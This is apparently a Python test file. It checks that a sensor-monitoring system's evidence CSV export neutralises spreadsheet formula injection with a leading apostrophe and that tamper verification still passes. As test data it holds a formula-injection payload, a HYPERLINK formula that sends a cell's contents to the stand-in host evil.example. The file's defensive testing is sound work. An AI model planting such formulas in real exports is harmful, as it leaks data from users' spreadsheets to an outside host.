"""Evidence CSVs opened in a spreadsheet: no cell runs as a formula, and verify still proves every row.

A store may hold ids from before a configuration refused a leading '-' (``-n9``), and InfluxDB
holds whatever was written to it; a reading's data is the sensor's own JSON. Each such text
reaches a CSV cell of the bundle: a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a
line break is written after an apostrophe (and one beginning with an apostrophe gets another),
and verify drops one leading apostrophe to hash the value as it was chained.
"""

from __future__ import annotations

import json
import re
import sqlite3
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from monitor.csv_cells import FORMULA_START, exact_value
from monitor.evidence import load_anchors, verify_bundle
from monitor.influx.client import InfluxWriter, line
from monitor.journal.store import Store, to_us
from rules.model import LightSummary, SoundLevels
from tests.support.evidence import (
    SITE,
    T0,
    Site,
    build_site,
    csv_rows,
    edit_rows,
    export,
    first_problem,
    rewrite,
)
from tests.support.servers import Influxd

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"x")'


def _runs(cell: str) -> bool:
    """Whether a spreadsheet opening the CSV would take ``cell`` for a formula."""
    return cell[:1] in FORMULA_START and not _NUMBER.fullmatch(cell)


def _csv_cells(bundle: Path) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(bundle) as zf:
        return {n: csv_rows(zf.read(n)) for n in zf.namelist() if n.endswith(".csv")}


def _add_hostile_rows(site: Site) -> None:
    """Rows of a sensor with an id of before the '-' rule (sound inside the window and after it, so
    that chain.csv carries its key), and a light reading whose data holds text where numbers
    belong; then the anchor that closes the segment, as the daemon publishes it."""
    store = Store(site.store)
    anchors = json.loads(site.anchors.read_text())
    with store.batch():
        for i in range(3):
            ts = T0 + timedelta(seconds=10 + i)
            store.append_sound(
                SoundLevels(SITE, "-n9", ts, 1.0, 70.25, 72.5, 85.0), source="levels", late=False, now=ts
            )
        after = T0 + timedelta(seconds=250)  # after the window: a chain.csv line with its key
        store.append_sound(
            SoundLevels(SITE, "-n9", after, 1.0, 70.25, 72.5, 85.0), source="levels", late=False, now=after
        )
        ts = T0 + timedelta(seconds=20)
        payload = {
            "ts": ts.isoformat(),
            "duration_s": 10.0,
            "lux_mean": HYPERLINK,
            "lux_min": "'quoted already",
            "lux_max": "@SUM(A1:A9)",
        }
        store.append_reading(LightSummary(SITE, "-l9", ts, 10.0, 0.5, 0.1, 0.7), payload, late=False, now=ts)
        now = T0 + timedelta(seconds=300)
        seq, head = store.head(SITE)
        store.conn.execute("INSERT INTO anchors VALUES (?,?,?,?)", (SITE, seq, head, to_us(now)))
        store.restate_config(SITE, now)
        anchors.append({"site": SITE, "seq": seq, "head": head, "ts": now.isoformat()})
    store.close()
    site.anchors.write_text(json.dumps(anchors))


def test_hostile_text_cells_are_inert_and_the_bundle_verifies(tmp_path: Path) -> None:
    site = build_site(tmp_path, final_anchor=False)
    _add_hostile_rows(site)
    bundle = export(site, tmp_path / "b.zip")

    members = _csv_cells(bundle)
    running = [(name, cell) for name, rows in members.items() for row in rows for cell in row if _runs(cell)]
    assert running == []
    sound = members["data/sound/part-00001.csv"]
    assert {exact_value(r[2]) for r in sound[1:]} == {"n1", "n2", "-n9"}
    assert sum(r[2] == "'-n9" for r in sound[1:]) == 3
    light = members["data/light.csv"]
    header = light[0]
    hostile = next(dict(zip(header, r, strict=True)) for r in light[1:] if exact_value(r[2]) == "-l9")
    # Each cell gives back the stored value exactly: the apostrophe of its own kept, one added.
    assert hostile["sensor"] == "'-l9"
    assert hostile["lux_mean"] == "'" + HYPERLINK and exact_value(hostile["lux_mean"]) == HYPERLINK
    assert hostile["lux_min"] == "''quoted already"
    assert hostile["lux_max"] == "'@SUM(A1:A9)"
    chain_keys = [r[2] for r in members["chain.csv"][1:]]
    assert any(k.startswith("'-n9|") for k in chain_keys)
    assert any(k.startswith("'-l9|light|") for k in chain_keys)

    report = verify_bundle(bundle, load_anchors(site.anchors))
    assert report.ok, report.lines()
    assert report.anchored_to is not None
    assert report.rows_checked["data/light.csv"] == 25 and report.rows_checked["data/sound/part-*.csv"] == 483


def test_a_marked_cell_changed_is_a_changed_row(tmp_path: Path) -> None:
    """The apostrophe is a mark, not a licence: a value changed under it is still found."""
    site = build_site(tmp_path, final_anchor=False)
    _add_hostile_rows(site)
    bundle = export(site, tmp_path / "b.zip")

    def change(rows: list[list[str]]) -> None:
        for row in rows:
            if row[2] == "'-l9":
                row[2] = "'-l8"

    forged = rewrite(bundle, tmp_path / "forged.zip", {"data/light.csv": edit_rows(change)})
    assert first_problem(forged).startswith("row altered: data/light.csv line ")


def test_influxdb_text_is_inert_in_a_pruned_window(tmp_path: Path, influxd: Influxd) -> None:
    """InfluxDB holds whatever was written to it (a real server): text in a field is made inert."""
    influx = f'[storage.influxdb]\nversion = 1\nurl = "{influxd.url}"\ndatabase = "mw"'
    site = build_site(tmp_path, influx=influx)
    cut = T0 + timedelta(seconds=120)
    writer = InfluxWriter(site.config.storage.influxdb)  # type: ignore[arg-type]
    with sqlite3.connect(site.store) as conn:
        points = [
            line(
                "sound",
                {"site": SITE, "sensor": s},
                {"LAeq": laeq, "duration_s": 1.0},
                datetime.fromtimestamp(ts / 1e6, UTC),
            )
            for s, ts, laeq in conn.execute(
                "SELECT sensor, ts_us, LAeq FROM sound WHERE ts_us < ?", (to_us(cut),)
            )
        ]
    points.append(line("light", {"site": SITE, "sensor": "l1"}, {"lux_mean": HYPERLINK}, T0))
    writer.write(points)
    writer.close()
    store = Store(site.store)
    assert store.prune(cut) > 0
    store.close()

    bundle = export(site, tmp_path / "b.zip", plots=True)
    members = _csv_cells(bundle)
    light = members["data/light_influxdb.csv"]
    assert dict(zip(light[0], light[1], strict=True))["lux_mean"] == "'" + HYPERLINK
    assert [cell for rows in members.values() for row in rows for cell in row if _runs(cell)] == []
    report = verify_bundle(bundle, load_anchors(site.anchors))
    assert report.ok, report.lines()
